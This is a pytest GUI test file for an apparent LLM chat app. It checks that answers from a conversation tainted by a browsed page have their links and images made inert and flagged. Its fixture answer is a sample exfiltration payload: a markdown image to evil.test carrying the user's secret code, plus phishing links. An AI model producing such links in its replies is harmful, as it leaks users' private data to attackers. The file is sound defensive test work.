"""An answer from a tainted conversation cannot leak: its links and images are inert text with
their host (the real ChatView, offscreen)."""

from __future__ import annotations

import pytest

from tests.needs import installed

installed("PySide6")

from llmos.app.answer_links import defang  # noqa: E402
from llmos.app.chat_view import ChatView  # noqa: E402
from llmos.kernel import events  # noqa: E402

pytestmark = pytest.mark.gui

SECRET = "Zebra-7731"
ANSWER = (f"Here is the page. ![chart](http://evil.test/pixel.png?d={SECRET}) "
          "Pay at [your bank](https://fraud.example/login) or www.phish.test/now, "
          '<img src="http://evil.test/raw.gif"> and <https://auto.example/x>.\n\n'
          "[ref]: http://ref.example/r\n\nsee `http://in.code/keep` too, or write to boss@evil.test")


def test_defang_makes_every_link_inert_and_flags_conversation_data():
    shown, found = defang(ANSWER, [f"my locker code is {SECRET}"])
    hosts = {f.host for f in found}
    assert hosts == {"evil.test", "fraud.example", "www.phish.test", "auto.example", "ref.example"}
    [pixel] = [f for f in found if "pixel" in f.url]
    assert pixel.image and set(pixel.carries) == {"Zebra", "7731"}
    assert all(not f.carries for f in found if f is not pixel)
    assert "](" not in shown and "<img" not in shown and "<https" not in shown
    assert "⚠ carries words from this conversation: 'Zebra', '7731'" in shown
    assert "`http://in.code/keep`" in shown  # code stays as written


def view_with(qtbot, tainted: bool) -> ChatView:
    view = ChatView()
    qtbot.addWidget(view)
    view.add_message("user", f"My locker code is {SECRET}. Read the page.")
    view.add_card((1, 1), "browser", "open", {"url": "http://evil.test/"})
    view.finish_card(events.SyscallFinished(1, 1, "browser", "open", {"url": "http://evil.test/"},
                                            {"text": "page"}, True, 0.1, not tainted, None))
    view.append_reply(ANSWER)
    view.end_reply(ANSWER)
    return view


def test_the_window_shows_a_tainted_answers_links_as_text(qtbot):
    view = view_with(qtbot, tainted=True)
    bubble = view.bubbles()[-1]
    html = bubble.body.text()
    assert view.tainted and bubble.untrusted
    assert "<img" not in html and "href=" not in html  # nothing is fetched, nothing is clickable (mailto too)
    for host in ("evil.test", "fraud.example", "www.phish.test", "auto.example"):
        assert host in html
    assert "carries words from this conversation" in html
    assert {f.host for f in bubble.links if f.carries} == {"evil.test"}


def test_an_untainted_answer_keeps_its_links(qtbot):
    view = view_with(qtbot, tainted=False)
    bubble = view.bubbles()[-1]
    assert not view.tainted and not bubble.untrusted
    assert "href=\"https://fraud.example/login\"" in bubble.body.text()
    view.clear()
    assert not view.tainted
